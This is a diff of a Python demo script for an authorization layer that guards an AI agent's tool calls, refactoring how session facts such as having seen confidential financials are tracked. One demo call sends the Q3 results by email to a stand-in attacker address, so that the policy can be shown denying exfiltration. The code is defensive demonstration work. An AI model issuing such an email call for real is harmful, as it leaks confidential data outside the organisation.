@@ -57,12 +57,9 @@ def show(who: az.EntityUID, action: str, resource: az.EntityUID, decision: az.De
         print(f"         error: {error}")
 
 
-def call_tool(authz: az.Authorizer, action: str, arguments: dict[str, Any],
-              session: dict[str, Any] | None = None) -> None:
-    """Authorize one tool call for the bound user, as a tool guard would."""
+def call_tool(authz: az.Authorizer, action: str, arguments: dict[str, Any]) -> None:
+    """Authorize one tool call for the bound user (and session), as a tool guard would."""
     context: dict[str, Any] = {"input": arguments}
-    if session is not None:
-        context["session"] = session
     decision = authz.authorize(action=action, resource=tool(action), context=context)
     show(authz.current_principal(), action, tool(action), decision, arguments)
 
@@ -96,11 +93,13 @@ def main() -> int:
 
     print("\n3. Session facts (context.session): once the conversation has seen a")
     print("   confidential document, nothing leaves the tenant by email.")
-    with authz.acting_as(user("bob")):
-        call_tool(authz, "send_email", {"to": "customer@example.com", "subject": "Refund"},
-                  session={"seen": ["handbook", "playbook"]})
-        call_tool(authz, "send_email", {"to": "customer@example.com", "subject": "Refund"},
-                  session={"seen": ["confidential", "financials"]})
+    with authz.acting_as(user("bob")), authz.session("demo-conversation") as session:
+        read = authz.filter(["acme-handbook", "acme-support-playbook"], action="read",
+                            resource=document)  # records their labels in the session
+        print(f"  read {len(read.allowed)} documents; the session has seen {sorted(session.state().seen)}")
+        call_tool(authz, "send_email", {"to": "customer@example.com", "subject": "Refund"})
+        session.see("confidential", "financials")  # e.g. the application showed the Q3 results
+        call_tool(authz, "send_email", {"to": "customer@example.com", "subject": "Refund"})
         call_tool(authz, "send_email",
                   {"to": "attacker@evil.example, dave@acme.example", "subject": "Q3"})
 
